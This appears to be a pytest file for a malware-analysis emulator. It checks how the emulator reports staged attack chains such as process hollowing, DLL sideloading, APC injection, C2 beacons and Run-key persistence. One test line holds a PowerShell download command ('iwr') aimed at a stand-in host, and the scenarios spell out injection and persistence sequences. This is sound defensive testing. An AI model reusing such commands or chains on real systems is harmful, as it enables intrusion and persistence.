"""Long chains that combine techniques, as a user's unseen chain would (issue: combo).

Each scenario joins four or five mechanisms the suite handles one by one; what each showed
before its fix:

* ``combo-hollow-beacon`` (x64): a WinHTTP dropper -> a DLL run by rundll32 -> its resource
  RC4-decrypted -> svchost hollowed -> the implant beacons and maps by hand the DLL its C2
  answers. The implant and the module read ``process: rundll32.exe`` (the process of the DLL
  that injected them: a stage's process was inherited from its parent before the injection
  was asked), and the graph drew rundll32 hosting them beside svchost. The implant's ``via``
  read ``unknown``: a thread resumed at a context its parent set is ``context`` now.
* ``combo-sideload-inject`` (x64): a planted version.dll -> a thread: a registry value the
  first run fetched and stored -> CryptoAPI AES -> explorer.exe (Toolhelp, OpenProcess, a
  remote thread, waited) -> a batch file dropped and ``cmd /c sync.cmd && powershell ...``.
  The batch file was a program cmd could not run (``child_process_not_run``, "not a PE"), exit
  code 1, so PowerShell after ``&&`` was skipped; cmd interprets a batch file itself. The
  planted DLL's stage read ``via: unknown`` (the loader runs an imported DLL's DllMain before the
  program's entry point): ``callback`` now, as for a DLL ``LoadLibrary`` maps.
* ``combo-tcp-lznt1-x86``: raw TCP stager -> LZNT1 -> worker thread drops, starts and waits for
  a program -> HTTP with a redirect -> base64 + XOR -> APC. The graph was right; the narration
  said "contacts edge.example-relay.net:None ... and got None" for the lookup and the raw TCP
  answer.
* ``combo-apc-dns-x86``: a planted winmm.dll loaded at run time -> a file, CryptoAPI RC4 -> Early
  Bird APC into notepad -> the code there reads a DNS TXT record, base64 + XOR -> a thread in
  notepad writes a Run key. The stage decoded inside notepad had no ``process`` (inherited from
  a parent whose own was not known yet); the Run value, written by ``RegSetValueExA`` with an
  even length, read as UTF-16LE (CJK text); the TXT answer read "no such name".
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from emulator.backends.speakeasy import lolbins
from emulator.backends.speakeasy.scripthosts import script_commands

Report = dict[str, Any]
SVCHOST = "C:\\Windows\\System32\\svchost.exe"
RUNDLL32 = "C:\\Windows\\System32\\rundll32.exe"


def _stages(report: Report) -> dict[str, Report]:
    return {s["id"]: s for s in report["stages"]}


def _hosts(report: Report) -> set[tuple[str, str]]:
    return {(e["source"], e["target"]) for e in report["graph"]["edges"] if e["type"] == "hosts"}


def test_stages_injected_from_a_child_process_run_in_its_target(scenario_report: Callable[[str], Report]) -> None:
    report = scenario_report("combo-hollow-beacon")
    stages = _stages(report)
    assert [stages[s]["process"] for s in ("s1", "s2", "s3")] == [RUNDLL32, SVCHOST, SVCHOST]
    assert stages["s1"]["system_program"] == RUNDLL32 and stages["s2"]["parent"] == "s1"
    assert (stages["s2"]["via"], stages["s3"]["via"]) == ("context", "call")
    assert stages["s3"]["kind"] == "pe_in_memory" and stages["s3"]["parent"] == "s2"
    assert _hosts(report) == {(f"process:{RUNDLL32}", "s1"), (f"process:{SVCHOST}", "s2"), (f"process:{SVCHOST}", "s3")}
    # the beacon carried the computer name; its answer is the module mapped in svchost
    beacon = [x for x in report["network"] if x["stage"] == "s2"]
    assert [x["method"] for x in beacon] == ["POST"]
    dropped = {d["path"] for d in report["dropped"]}
    assert "C:\\Users\\Public\\combo_hollow_module.txt" in dropped


def test_a_batch_file_is_run_by_cmd_itself() -> None:
    line = 'cmd.exe /c C:\\Users\\Public\\x.cmd && powershell -c "iwr https://a.example/p" & start "" y.BAT'
    node = lolbins.cmd_chain("cmd.exe", line, "x64", lambda t: t)
    assert node is not None
    steps = lolbins.cmd_steps(node)
    step = next(steps)
    seen = []
    try:
        while True:
            assert not isinstance(step, lolbins.CmdSkipped), step
            seen.append((step.text, step.targets))
            step = steps.send(0)
    except StopIteration:
        pass
    # neither batch file is a program to emulate (no target): cmd runs it, exit code 0
    assert [text for text, _ in seen] == [
        "C:\\Users\\Public\\x.cmd",
        'powershell -c "iwr https://a.example/p"',
        'start "" y.BAT',
    ]
    assert seen[0][1] == () and seen[2][1] == ()
    found = script_commands("cmd.exe", line, lambda t: t)
    assert [(s.program, s.how, s.text) for s in found] == [
        ("cmd.exe", "batch", "C:\\Users\\Public\\x.cmd"),
        ("powershell.exe", "Command", '"iwr https://a.example/p"'),
        ("cmd.exe", "batch", "y.BAT"),
    ]


def test_a_dropped_script_runs_and_the_command_after_and_and_runs(scenario_report: Callable[[str], Report]) -> None:
    report = scenario_report("combo-sideload-inject")
    stages = _stages(report)
    assert stages["s2"]["process"] == "C:\\Windows\\explorer.exe" and stages["s2"]["via"] == "thread"
    assert (stages["s1"]["kind"], stages["s1"]["via"], stages["s1"]["parent"]) == ("module", "callback", "s0")
    notes = [(n["what"], n["detail"], n["stage"]) for n in report["notes"]]
    assert not [n for n in notes if n[0] in ("child_process_not_run", "cmd_command_skipped")], notes
    assert (
        "script_command",
        "cmd.exe batch: C:\\Users\\Public\\Libraries\\sync.cmd; the script host is not emulated",
        "s2",
    ) in notes
    assert [h["transform"] for h in stages["s2"]["lineage"]] == ["source", "registry_write", "decrypt", "process_write"]


@pytest.mark.parametrize("name", ["combo-tcp-lznt1-x86"])
def test_a_program_unpacked_by_a_thread_runs_inside_the_wait(
    name: str, scenario_report: Callable[[str], Report]
) -> None:
    report = scenario_report(name)
    stages = _stages(report)
    child = "C:\\Users\\analyst\\AppData\\Local\\Temp\\msedge_upd.exe"
    assert (stages["s2"]["via"], stages["s2"]["parent"], stages["s2"]["process"]) == ("process", "s1", child)
    assert (stages["s3"]["via"], stages["s3"]["parent"], stages["s3"]["process"]) == ("apc", "s2", child)
    # the child ran inside s1's wait: s1's GetExitCodeProcess comes after the child's last call
    calls = [(c["seq"], c["stage"], c["api"]) for c in report["api_calls"]]
    exit_code = next(seq for seq, stage, api in calls if api == "kernel32.GetExitCodeProcess")
    assert max(seq for seq, stage, _ in calls if stage in ("s2", "s3")) < exit_code


def test_the_narration_tells_dns_and_raw_tcp_answers(scenario_outdir: Callable[[str], Any]) -> None:
    """A DNS lookup, a DNS TXT record and a raw TCP answer have no HTTP status: the narration said
    "contacts HOST:None ... and got None" (and the terminal "no such name" for a TXT record)."""
    text = (scenario_outdir("combo-tcp-lznt1-x86") / "narration.md").read_text(encoding="utf-8")
    assert "None" not in text
    assert "It looks up edge.example-relay.net (ws2_32.gethostbyname) and got the address 203.0.113.10" in text
    assert "It fetches edge.example-relay.net:8443 (tcp) and got 2,171 bytes" in text
    text = (scenario_outdir("combo-apc-dns-x86") / "narration.md").read_text(encoding="utf-8")
    assert (
        "It looks up ds7.cache.example-sync.net (dnsapi.DnsQuery_A) and got a TXT record (2 strings, 248 bytes)" in text
    )


def test_a_registry_string_is_read_as_its_api_wrote_it(scenario_report: Callable[[str], Report]) -> None:
    """An even-length ANSI string also decodes as UTF-16LE: RegSetValueExA's Run value read as CJK
    text. The API decides (A: ANSI, W: UTF-16LE); unknown, a NUL inside says UTF-16LE."""
    from emulator.backends.speakeasy.translate import render_value

    assert render_value(b"AB\0", wide=False) == "AB"
    assert render_value(b"AB", wide=None) == "AB"
    assert render_value("AB".encode("utf-16-le") + b"\0\0", wide=None) == "AB"
    assert render_value("AB".encode("utf-16-le"), wide=True) == "AB"
    writes = [r for r in scenario_report("combo-apc-dns-x86")["registry"] if r["op"] == "write"]
    assert [(w["stage"], w["value_name"], w["value"]) for w in writes] == [
        ("s3", "DeviceSync", '"C:\\Users\\analyst\\AppData\\Local\\DeviceSync\\syncsvc.exe" /background')
    ]


def test_a_stage_decoded_inside_an_injected_process_runs_there(scenario_report: Callable[[str], Report]) -> None:
    report = scenario_report("combo-apc-dns-x86")
    stages = _stages(report)
    notepad = "C:\\Windows\\SysWOW64\\notepad.exe"
    assert [(stages[s]["via"], stages[s]["parent"], stages[s]["process"]) for s in ("s1", "s2", "s3")] == [
        ("callback", "s0", None),
        ("apc", "s1", notepad),
        ("thread", "s2", notepad),
    ]
    assert _hosts(report) == {(f"process:{notepad}", "s2"), (f"process:{notepad}", "s3")}
    assert [h["transform"] for h in stages["s3"]["lineage"]] == ["source", "decode", "xor"]


def test_relations_between_the_same_two_nodes_have_labels_of_their_own(
    scenario_outdir: Callable[[str], Any],
) -> None:
    """creates_process, writes_memory and injects_into from the injecting stage to its target
    share one path: their labels were drawn at one point, over one another ("winjects_intory")."""
    from emulator.render.layout import build_layout
    from emulator.report import Report as ReportModel

    layout = build_layout(ReportModel.from_file(scenario_outdir("combo-hollow-beacon") / "report.json"))
    to_svchost = [r for r in layout.routes if r.source == "s1" and r.target == f"process:{SVCHOST}"]
    assert sorted(r.type for r in to_svchost) == ["creates_process", "injects_into", "writes_memory"]
    assert len({r.label_at for r in to_svchost}) == 3


def test_the_narration_tells_the_value_a_stage_writes(scenario_outdir: Callable[[str], Any]) -> None:
    """A Run value's command line is what persists: the narration said only "It writes the
    registry key ...\\Run"."""
    text = (scenario_outdir("combo-apc-dns-x86") / "narration.md").read_text(encoding="utf-8")
    assert (
        "It writes the registry key HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run: "
        'DeviceSync = "C:\\Users\\analyst\\AppData\\Local\\DeviceSync\\syncsvc.exe" /background.'
    ) in text


COMBOS = ["combo-hollow-beacon", "combo-sideload-inject", "combo-tcp-lznt1-x86", "combo-apc-dns-x86"]


@pytest.mark.parametrize("name", COMBOS)
def test_inert_without_the_marker(name: str) -> None:
    """Without CHAINREPLAY_SANDBOX=replay-only every sample of the chain stops at its check: no
    file, registry or network activity, no process or thread (a planted DLL's DllMain checks
    too, before the program's entry point)."""
    from pathlib import Path

    from emulator.events import ApiCall, FileAccess, NetworkExchange, RegistryAccess
    from emulator.plan import ReplayPlan
    from emulator.replay import emulate
    from emulator.scenario import load_scenario

    plan = load_scenario(Path(__file__).resolve().parent.parent / "scenarios" / name)
    recording = emulate(ReplayPlan.model_validate({**plan.model_dump(), "sandbox_marker": False}))
    calls = [e.api for e in recording.events if isinstance(e, ApiCall)]
    assert calls and set(calls) <= {"kernel32.GetEnvironmentVariableA", "kernel32.ExitProcess"}, calls
    # (the loader's read of a DLL the program imports has no call site: not the sample's)
    loader = [e for e in recording.events if isinstance(e, FileAccess) and e.pc is None and e.op == "read"]
    assert not [
        e for e in recording.events if isinstance(e, FileAccess | RegistryAccess | NetworkExchange) and e not in loader
    ]
